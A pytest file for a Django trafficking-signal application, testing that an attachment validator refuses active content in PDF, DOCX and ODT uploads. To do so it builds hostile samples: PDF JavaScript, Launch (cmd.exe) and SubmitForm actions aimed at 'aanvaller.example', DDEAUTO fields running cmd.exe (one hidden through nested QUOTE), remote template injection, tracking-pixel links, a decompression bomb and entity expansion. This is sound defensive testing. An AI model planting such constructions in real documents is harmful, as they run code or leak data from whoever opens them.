"""Attachments: active content that passed the byte checks (security issue 16 §2).

PDF: every object is walked with a real parser (qpdf through pikepdf), object streams decompressed, so JavaScript,
Launch or XFA hidden in a compressed object stream is found, and SubmitForm, ImportData, GoToR/GoToE, embedded files,
open actions and additional actions are refused too. DOCX: relationships and DDE fields that load something when the
document opens. ODT: images, objects and sections linked from outside the package. Ordinary files keep passing, and
the same rules hold for the signal form and for an action's attachment (``controleer`` is shared)."""
import zlib
from html import escape
from io import BytesIO

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from pikepdf import Array, Dictionary, Name, String

from mensenhandel.core import uploads
from signalen import bijlagen
from signalen.bijlagen import M
from signalen.models import Bijlage, Gebeurtenis, SignaalHistorie, Status
from tests.signalen.test_bijlagen import (
    ENSCHEDE,
    concept,
    docx,
    expected,
    png,
    stored_files,
    upload,
    zip_bytes,
)
from tests.signalen.test_formulier import geldig, nieuw_concept, post

pytestmark = pytest.mark.django_db


def controleer(name, data):
    """The one message a refused file gets, or None when it passes."""
    try:
        bijlagen.controleer(upload(name, data))
    except ValidationError as exc:
        return exc.messages
    return None


def refused(message, name, **params):
    return [expected(message, name=name, **params)]


# --- PDF: made with pikepdf, the objects in compressed object streams --------------------------------------


def pdf(bouw=None, objectstromen=True):
    """A one-page PDF made by pikepdf; ``bouw(pdf)`` adds to it. With object streams (PDF 1.5) every object that is no
    stream is stored inside a Flate-compressed object stream, where a byte search does not see it."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if bouw:
        bouw(document)
    uit = BytesIO()
    modus = pikepdf.ObjectStreamMode.generate if objectstromen else pikepdf.ObjectStreamMode.disable
    document.save(uit, object_stream_mode=modus)
    return uit.getvalue()


def annotatie(document, **velden):
    """An annotation on the first page."""
    velden.setdefault("Subtype", Name.Link)
    annot = document.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([72, 700, 200, 720]),
                                              Border=Array([0, 0, 0]), **velden))
    document.pages[0].Annots = document.make_indirect(Array([annot]))


def link(actie):
    """A link annotation on the first page with the action that ``actie()`` makes (anew for each document)."""
    return lambda document: annotatie(document, A=document.make_indirect(actie()))


def openen(actie):
    """The action that ``actie()`` makes as the document's /OpenAction."""
    def bouw(document):
        document.Root.OpenAction = document.make_indirect(actie())
    return bouw


def javascript_in_names(document):
    actie = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://x.example')")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), actie])))


def xfa(document):
    sjabloon = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    document.Root.AcroForm = document.make_indirect(Dictionary(Fields=Array([]), XFA=Array([String("template"),
                                                                                            sjabloon])))


def ingesloten_bestand(document):
    document.attachments["betaling.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00" + b"\x00" * 60)


def bijlage_annotatie(document):
    """A file attachment annotation whose file is only named, not embedded: the annotation itself is refused."""
    annotatie(document, Subtype=Name.FileAttachment, Contents=String("bijlage"),
              FS=Dictionary(Type=Name.Filespec, F=String("betaling.exe")))


def pagina_aa(document):
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://aanvaller.example/open")))


def rich_media(document):
    annotatie(document, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))


def bestemming(document):
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def uri_link(document):
    annotatie(document, A=Dictionary(S=Name.URI, URI=String("https://www.politie.nl/")))


# id, build, hidden from the byte search today (it sits in a compressed object stream)
PDF_ACTIEF = [
    pytest.param(javascript_in_names, True, id="javascript-in-object-stream"),
    pytest.param(link(lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), True,
                 id="javascript-link-action"),
    pytest.param(openen(lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), True,
                 id="javascript-open-action"),
    pytest.param(link(lambda: Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"))), True,
                 id="launch-in-object-stream"),
    pytest.param(xfa, True, id="xfa-in-acroform"),
    pytest.param(link(lambda: Dictionary(S=Name.SubmitForm, Flags=4,
                                         F=Dictionary(FS=Name.URL, F=String("https://aanvaller.example/")))), True,
                 id="submitform"),
    pytest.param(link(lambda: Dictionary(S=Name.ImportData, F=String("gegevens.fdf"))), True, id="importdata"),
    pytest.param(openen(lambda: Dictionary(S=Name.URI, URI=String("https://aanvaller.example/teller.png"))), True,
                 id="uri-open-action"),
    pytest.param(openen(lambda: Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))), True,
                 id="goto-open-action-is-an-action"),
    pytest.param(link(lambda: Dictionary(S=Name.GoToR, F=String("\\\\server\\share\\lokaas.pdf"),
                                         D=Array([0, Name.Fit]))), True, id="gotor"),
    pytest.param(link(lambda: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("ingesloten.pdf")))), True,
                 id="gotoe"),
    pytest.param(link(lambda: Dictionary(S=Name.URI, URI=String("JavaScript:app.alert(1)"))), True,
                 id="uri-link-to-a-script"),
    pytest.param(link(lambda: Dictionary(S=Name.URI, URI=String("file://server/share/lokaas.exe"))), True,
                 id="uri-link-to-a-file"),
    pytest.param(ingesloten_bestand, False, id="embedded-files-name-tree"),
    pytest.param(bijlage_annotatie, True, id="file-attachment-annotation"),
    pytest.param(pagina_aa, True, id="additional-action-on-a-page"),
    pytest.param(rich_media, False, id="rich-media"),
]


@pytest.mark.parametrize("bouw, verborgen", PDF_ACTIEF)
def test_active_pdf_content_is_refused_also_inside_object_streams(bouw, verborgen):
    data = pdf(bouw)
    assert b"/ObjStm" in data
    if verborgen:  # today's byte search does not see it: only the parser does
        assert uploads._PDF_ACTIEF.search(data) is None
    assert controleer("rapport.pdf", data) == refused(M.PDF_ACTIEF, "rapport.pdf")


@pytest.mark.parametrize("bouw", [javascript_in_names, link(lambda: Dictionary(S=Name.Launch, F=String("cmd.exe"))),
                                  xfa, pagina_aa], ids=["javascript", "launch", "xfa", "aa"])
def test_active_pdf_content_is_refused_without_object_streams_too(bouw):
    assert controleer("rapport.pdf", pdf(bouw, objectstromen=False)) == refused(M.PDF_ACTIEF, "rapport.pdf")


PDF_GEWOON = [
    pytest.param(None, id="plain-pikepdf-pdf"),
    pytest.param(bestemming, id="open-action-that-is-only-a-destination"),
    pytest.param(uri_link, id="uri-link-annotation-the-user-clicks"),
    pytest.param(link(lambda: Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))), id="goto-link-inside-the-document"),
    pytest.param(lambda document: setattr(document.pages[0], "AA", Dictionary()), id="empty-additional-actions"),
]


@pytest.mark.parametrize("bouw", PDF_GEWOON)
@pytest.mark.parametrize("objectstromen", [True, False], ids=["object-streams", "plain"])
def test_ordinary_pdfs_pass(bouw, objectstromen):
    data = pdf(bouw, objectstromen=objectstromen)
    naam, soort, opgeslagen = bijlagen.controleer(upload("verslag.pdf", data))
    assert (naam, soort.code, opgeslagen) == ("verslag.pdf", "pdf", data)


def test_a_pdf_as_weasyprint_makes_it_with_links_and_bookmarks_passes():
    """As the reports of this application are made: headings become bookmarks, links link annotations."""
    from weasyprint import HTML

    data = HTML(string="<h1 id='a'>Verslag</h1><p><a href='https://www.politie.nl/'>Politie</a> "
                       "<a href='#b'>verder</a></p><h2 id='b' style='break-before: page'>Bijlage</h2>").write_pdf()
    with pikepdf.open(BytesIO(data)) as document:
        assert len(document.pages) == 2 and "/Outlines" in document.Root and "/Annots" in document.pages[0]
    assert controleer("verslag.pdf", data) is None


def test_a_pdf_stored_as_it_came_through_add(demo, opslag):
    user = demo[ENSCHEDE]
    data = pdf(uri_link)
    bijlage = bijlagen.add(concept(user), upload("verslag.pdf", data), user)
    with bijlagen.open(bijlage) as bestand:
        assert bestand.read() == data


def test_an_encrypted_pdf_is_refused_with_or_without_a_password_to_open_it():
    for encryptie in (pikepdf.Encryption(owner="eigenaar", user="geheim"), pikepdf.Encryption(owner="eigenaar", user="")):
        document = pikepdf.new()
        document.add_blank_page()
        uit = BytesIO()
        document.save(uit, encryption=encryptie)
        assert controleer("beveiligd.pdf", uit.getvalue()) == refused(M.VERSLEUTELD, "beveiligd.pdf")


def test_a_pdf_the_parser_cannot_open_is_damaged():
    data = b"%PDF-1.7\n" + b"\x00\x01garbage " * 200 + b"\n%%EOF\n"
    assert controleer("kapot.pdf", data) == refused(M.PDF_KAPOT, "kapot.pdf")


# --- PDF: hand-built, an object stream that the parser cannot read --------------------------------------------


def pdf_met_objectstroom(gewoon, in_stroom, vulling=b""):
    """A PDF with the objects ``in_stroom`` in one Flate object stream (``vulling`` added to its data before it is
    compressed) and a cross-reference stream; object 1 is the catalog."""
    nummers = sorted({*gewoon, *in_stroom})
    stroom_nr, xref_nr = nummers[-1] + 1, nummers[-1] + 2
    uit = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    posities = {}
    for nummer in sorted(gewoon):
        posities[nummer] = len(uit)
        uit += b"%d 0 obj\n%s\nendobj\n" % (nummer, gewoon[nummer])
    kop, lijf = [], b""
    for nummer in sorted(in_stroom):
        kop.append(b"%d %d" % (nummer, len(lijf)))
        lijf += in_stroom[nummer] + b"\n"
    kop = b" ".join(kop) + b"\n"
    inhoud = zlib.compress(kop + lijf + vulling)
    posities[stroom_nr] = len(uit)
    uit += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stroom_nr, len(in_stroom), len(kop), len(inhoud)) + inhoud + b"\nendstream\nendobj\n")
    posities[xref_nr] = len(uit)
    index = {nummer: i for i, nummer in enumerate(sorted(in_stroom))}
    rijen = b"\x00\x00\x00\x00\xff\xff"
    for nummer in range(1, xref_nr + 1):
        if nummer in posities:
            rijen += b"\x01" + posities[nummer].to_bytes(4, "big") + b"\x00"
        else:
            rijen += b"\x02" + stroom_nr.to_bytes(4, "big") + bytes([index[nummer]])
    rijen = zlib.compress(rijen)
    uit += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xref_nr, xref_nr + 1, len(rijen)) + rijen + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
            % posities[xref_nr])
    return bytes(uit)


GEWOON = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"}
CATALOGUS = b"<< /Type /Catalog /Pages 2 0 R >>"  # without the /OpenAction


def test_the_hand_built_object_stream_is_read():
    assert controleer("a.pdf", pdf_met_objectstroom(GEWOON, {4: b"[3 0 R /Fit]"})) is None
    data = pdf_met_objectstroom(GEWOON, {4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})
    assert uploads._PDF_ACTIEF.search(data) is None
    assert controleer("a.pdf", data) == refused(M.PDF_ACTIEF, "a.pdf")


def test_an_object_stream_that_inflates_past_the_limit_is_refused_not_skipped():
    """qpdf stops inflating at its limit and would see the action as null; another reader would run it."""
    data = pdf_met_objectstroom(GEWOON, {4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}, vulling=b" " * (40 * 2**20))
    assert len(data) < 100_000
    assert controleer("bom.pdf", data) == refused(M.PDF_KAPOT, "bom.pdf")


def test_an_object_stream_that_does_not_inflate_is_refused_not_skipped():
    data = bytearray(pdf_met_objectstroom(GEWOON, {4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}))
    begin = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
    data[begin + 4:begin + 12] = b"\xff" * 8
    assert controleer("kapot.pdf", bytes(data)) == refused(M.PDF_KAPOT, "kapot.pdf")


def test_an_object_nested_past_the_parsers_limit_is_refused():
    gewoon = {**GEWOON, 1: CATALOGUS, 4: b"[" * 600 + b"<< /A 1 >>" + b"]" * 600}
    assert controleer("diep.pdf", pdf_bytes_met_xref(gewoon)) == refused(M.PDF_KAPOT, "diep.pdf")


def pdf_bytes_met_xref(objecten):
    uit = bytearray(b"%PDF-1.4\n")
    posities = []
    for nummer in sorted(objecten):
        posities.append(len(uit))
        uit += b"%d 0 obj\n%s\nendobj\n" % (nummer, objecten[nummer])
    xref = len(uit)
    uit += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objecten) + 1)
    uit += b"".join(b"%010d 00000 n \n" % positie for positie in posities)
    uit += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objecten) + 1, xref)
    return bytes(uit)


def test_too_many_objects_is_refused_as_too_complex(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTEN", 5)
    data = pdf_met_objectstroom(GEWOON, {n: b"<< /Nr %d >>" % n for n in range(4, 10)})
    assert controleer("groot.pdf", data) == refused(M.PDF_TE_COMPLEX, "groot.pdf")


def test_walking_is_bounded(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_KNOPEN", 1000)
    gewoon = {**GEWOON, 1: CATALOGUS, 4: b"<< /AA << >> /Kids [" + b"<< /A 1 >> " * 2000 + b"] >>"}
    assert controleer("breed.pdf", pdf_bytes_met_xref(gewoon)) == refused(M.PDF_TE_COMPLEX, "breed.pdf")


def test_a_null_object_written_as_null_is_fine():
    gewoon = {**GEWOON, 1: CATALOGUS, 4: b"null"}
    assert controleer("null.pdf", pdf_bytes_met_xref(gewoon)) is None


# --- DOCX --------------------------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relaties):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(relaties) + "</Relationships>")


def relatie(soort, doel, extern=True, rid="rId9"):
    modus = ' TargetMode="External"' if extern else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{soort}" Target="{escape(doel)}"{modus}/>'


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = f'xmlns:r="{REL}"'


def woord(body, wortel="w:document", ns=W):
    inner = f"<w:body>{body}</w:body>" if wortel == "w:document" else body
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><{wortel} {ns} {R}>{inner}</{wortel}>'


def veld(*instructies):
    """A complex field: begin, the instruction in runs (one w:instrText each), separate, a result, end."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{escape(i)}</w:instrText></w:r>' for i in instructies)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>resultaat</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def geneste_quote(codes):
    """{ { QUOTE 68 68 69 ... } "cmd" }: the field name spelt by a nested QUOTE field, a known way to hide DDE."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> QUOTE {codes} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> "C:\\\\Windows\\\\System32\\\\cmd.exe" "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_met_rels(deel, *relaties):
    return docx(extra=[(deel, rels(*relaties))])


DDE_AUTO = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'

DOCX_EXTERN = [
    pytest.param(docx_met_rels("word/_rels/settings.xml.rels",
                               relatie("attachedTemplate", "http://aanvaller.example/sjabloon.dotm")),
                 id="attached-template-http"),
    pytest.param(docx_met_rels("word/_rels/settings.xml.rels",
                               relatie("attachedTemplate", "file://\\\\server\\share\\sjabloon.dotm")),
                 id="attached-template-file-unc"),
    pytest.param(docx_met_rels("word/_rels/settings.xml.rels",
                               relatie("attachedTemplate", "\\\\server\\share\\sjabloon.dotm")),
                 id="attached-template-unc"),
    pytest.param(docx_met_rels("word/_rels/settings.xml.rels",
                               relatie("attachedTemplate", "file://server/share/sjabloon.dotm")),
                 id="attached-template-file-url-with-a-server"),
    pytest.param(docx_met_rels("word/_rels/document.xml.rels",
                               relatie("image", "http://aanvaller.example/pixel.png")), id="external-image"),
    pytest.param(docx_met_rels("word/_rels/webSettings.xml.rels",
                               relatie("frame", "https://aanvaller.example/frame.html")), id="websettings-frame"),
    pytest.param(docx_met_rels("word/_rels/document.xml.rels",
                               relatie("oleObject", "file:///\\\\server\\share\\blad.xlsx")), id="linked-ole-object"),
    pytest.param(docx_met_rels("word/_rels/document.xml.rels",
                               relatie("subDocument", "file:///C:\\stukken\\deel2.docx")), id="subdocument"),
    pytest.param(docx(document=woord(veld(DDE_AUTO))), id="ddeauto-in-instrtext"),
    pytest.param(docx(document=woord(veld("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))),
                 id="ddeauto-split-over-runs"),
    pytest.param(docx(extra=[("word/header1.xml", woord(
        '<w:p><w:fldSimple w:instr=\' DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"\'>'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", wortel="w:hdr"))]), id="dde-in-fldsimple-in-a-header"),
    pytest.param(docx(extra=[("word/footnotes.xml", woord(
        f"<w:footnote w:id='1'>{veld(DDE_AUTO)}</w:footnote>", wortel="w:footnotes"))]), id="ddeauto-in-a-footnote"),
    pytest.param(docx(document=woord(geneste_quote("68 68 69 65 85 84 79"))), id="ddeauto-spelt-by-quote"),
]


@pytest.mark.parametrize("data", DOCX_EXTERN)
def test_docx_that_loads_content_when_opened_is_refused(data):
    assert controleer("brief.docx", data) == refused(M.EXTERN, "brief.docx")


def test_an_embedded_ole_object_relationship_is_refused_as_an_embedded_program():
    data = docx_met_rels("word/_rels/document.xml.rels",
                         relatie("oleObject", "embeddings/object1.xlsx", extern=False))
    assert controleer("brief.docx", data) == refused(M.MACRO, "brief.docx")


HYPERLINK_DOCUMENT = woord(
    '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>Politie</w:t></w:r></w:hyperlink></w:p>'
    + veld(' HYPERLINK "https://www.politie.nl/" ') + veld(" PAGE ")
)

DOCX_GEWOON = [
    pytest.param(docx(document=HYPERLINK_DOCUMENT, extra=[("word/_rels/document.xml.rels", rels(
        relatie("hyperlink", "https://www.politie.nl/", rid="rId5"),
        relatie("hyperlink", "mailto:meldpunt@example.org", rid="rId6"),
        relatie("styles", "styles.xml", extern=False, rid="rId1"),
        relatie("image", "media/image1.png", extern=False, rid="rId2"),
    )), ("word/media/image1.png", png()), ("word/styles.xml", woord("", wortel="w:styles"))]), id="hyperlinks-only"),
    pytest.param(docx_met_rels("word/_rels/settings.xml.rels", relatie(
        "attachedTemplate", "file:///C:\\Users\\medewerker\\AppData\\Roaming\\Microsoft\\Templates\\Gemeente.dotx")),
        id="template-on-the-writers-own-drive"),
    pytest.param(docx(), id="plain"),
]


@pytest.mark.parametrize("data", DOCX_GEWOON)
def test_ordinary_docx_passes(data):
    naam, soort, opgeslagen = bijlagen.controleer(upload("brief.docx", data))
    assert (naam, soort.code, opgeslagen) == ("brief.docx", "docx", data)


BOM = '<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def test_docx_xml_with_a_dtd_or_entities_is_refused_as_damaged():
    data = docx(extra=[("word/_rels/document.xml.rels", BOM + "<Relationships>&b;</Relationships>")])
    assert controleer("brief.docx", data) == refused(M.PAKKET_KAPOT, "brief.docx")
    data = docx(document=BOM + f"<w:document {W}><w:body>&b;</w:body></w:document>")
    assert controleer("brief.docx", data) == refused(M.PAKKET_KAPOT, "brief.docx")


# --- ODT ---------------------------------------------------------------------------------------------------

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink"')


def odt_met(tekst="<text:p>Waarneming.</text:p>", styles=None, extra=()):
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS} office:version="1.3">'
               f"<office:body><office:text>{tekst}</office:text></office:body></office:document-content>")
    delen = [("META-INF/manifest.xml", manifest), ("content.xml", content)]
    if styles is not None:
        delen.append(("styles.xml", f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {ODF_NS} '
                                    f'office:version="1.3"><office:styles>{styles}</office:styles>'
                                    "</office:document-styles>"))
    return zip_bytes([*delen, *extra], first_stored=("mimetype", b"application/vnd.oasis.opendocument.text"))


def beeld(href):
    return (f'<text:p><draw:frame draw:name="f1" svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{href}" '
            'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')


ODT_EXTERN = [
    pytest.param(odt_met(beeld("http://aanvaller.example/pixel.png")), id="linked-image-http"),
    pytest.param(odt_met(beeld("file://server/share/foto.png")), id="linked-image-file-server"),
    pytest.param(odt_met(beeld("file:///home/medewerker/foto.png")), id="linked-image-file"),
    pytest.param(odt_met(beeld("../foto.png")), id="linked-image-beside-the-document"),
    pytest.param(odt_met(beeld("//server/share/foto.png")), id="linked-image-unc"),
    pytest.param(odt_met('<text:p><draw:frame draw:name="o1"><draw:object xlink:href="https://aanvaller.example/blad.ods"'
                         ' xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'),
                 id="linked-object"),
    pytest.param(odt_met('<text:p><draw:frame draw:name="o2"><draw:object-ole xlink:href="file:///C:/blad.xls"/>'
                         "</draw:frame></text:p>"), id="linked-ole-object"),
    pytest.param(odt_met('<text:section text:name="Deel"><text:section-source '
                         'xlink:href="https://aanvaller.example/deel.odt" text:filter-name="writer8"/>'
                         "</text:section>"), id="section-source-outside-the-package"),
    pytest.param(odt_met('<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
                         'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
                         "</text:dde-connection-decls>"), id="dde-connection"),
    pytest.param(odt_met(styles='<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties>'
                                '<style:background-image xlink:href="http://aanvaller.example/bg.png"/>'
                                "</style:paragraph-properties></style:style>"), id="linked-background-in-styles"),
    pytest.param(odt_met(extra=[("Object 1/content.xml", f'<office:document-content {ODF_NS}><office:body>'
                                                         f'{beeld("http://aanvaller.example/p.png")}'
                                                         "</office:body></office:document-content>")]),
                 id="linked-image-in-an-embedded-object"),
]


@pytest.mark.parametrize("data", ODT_EXTERN)
def test_odt_that_loads_content_when_opened_is_refused(data):
    assert controleer("brief.odt", data) == refused(M.EXTERN, "brief.odt")


def test_an_odt_with_hyperlinks_and_embedded_pictures_and_objects_passes():
    data = odt_met(
        '<text:p>Zie <text:a xlink:type="simple" xlink:href="https://www.politie.nl/">de politie</text:a> en '
        '<text:a xlink:href="file://server/share/dossier.odt">het dossier</text:a>.</text:p>'
        + beeld("Pictures/1.png")
        + '<text:p><draw:frame draw:name="o1"><draw:object xlink:href="./Object 1" xlink:type="simple" '
          'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
        + '<text:section text:name="Intern"><text:section-source text:section-name="Andere"/></text:section>',
        styles='<style:style style:name="P1" style:family="paragraph"/>',
        extra=[("Pictures/1.png", png()), ("Configurations2/accelerator/current.xml", "")],
    )
    naam, soort, opgeslagen = bijlagen.controleer(upload("brief.odt", data))
    assert (naam, soort.code, opgeslagen) == ("brief.odt", "odt", data)


def test_odt_xml_with_entities_is_refused_as_damaged():
    data = zip_bytes([("META-INF/manifest.xml", "<manifest/>"),
                      ("content.xml", BOM + f"<office:document-content {ODF_NS}>&b;</office:document-content>")],
                     first_stored=("mimetype", b"application/vnd.oasis.opendocument.text"))
    assert controleer("brief.odt", data) == refused(M.PAKKET_KAPOT, "brief.odt")


# --- through the signal form -------------------------------------------------------------------------------


def test_the_form_refuses_a_hidden_script_with_the_dutch_message_and_loses_nothing(client, demo, opslag):
    signaal = nieuw_concept(client, demo[ENSCHEDE])  # /signalen/nieuw/ leads to the draft's form
    omschrijving = "Busje haalt twaalf mensen op om vijf uur; zie het verslag."
    data = geldig(signaal.gemeente, omschrijving=omschrijving, bijlagen=[
        upload("verslag.pdf", pdf(javascript_in_names), "application/pdf"),
        upload("brief.docx", docx(document=woord(veld(DDE_AUTO)))),
        upload("foto.pdf", pdf(uri_link), "application/pdf"),
    ])
    response = post(client, signaal, data)
    assert response.status_code == 200
    content = response.content.decode()
    for melding in (expected(M.PDF_ACTIEF, name="verslag.pdf"), expected(M.EXTERN, name="brief.docx")):
        assert escape(melding) in content
    assert "verslag.pdf”" in expected(M.PDF_ACTIEF, name="verslag.pdf")
    assert 'href="#id_bijlagen"' in content
    assert escape(omschrijving) in content
    signaal.refresh_from_db()
    assert signaal.status == Status.CONCEPT and signaal.omschrijving == omschrijving
    # The ordinary file was staged; the refused ones were not stored at all.
    assert [b.bestandsnaam for b in signaal.bijlagen.all()] == ["foto.pdf"]
    assert len(stored_files(opslag)) == 1
    assert not Bijlage.objects.filter(bestandsnaam__in=["verslag.pdf", "brief.docx"]).exists()
    assert list(SignaalHistorie.objects.filter(signaal=signaal, soort=Gebeurtenis.BIJLAGE)
                .values_list("tekst", flat=True)) == ["foto.pdf"]


def test_the_new_messages_are_in_dutch():
    for message in (M.EXTERN, M.PDF_TE_COMPLEX):
        with translation.override("en"):
            engels = str(message) % {"name": "x"}
        assert expected(message, name="x") != engels
        assert expected(message, name="x").startswith("“x” ")
    assert "gekoppeld" in expected(M.EXTERN, name="x")
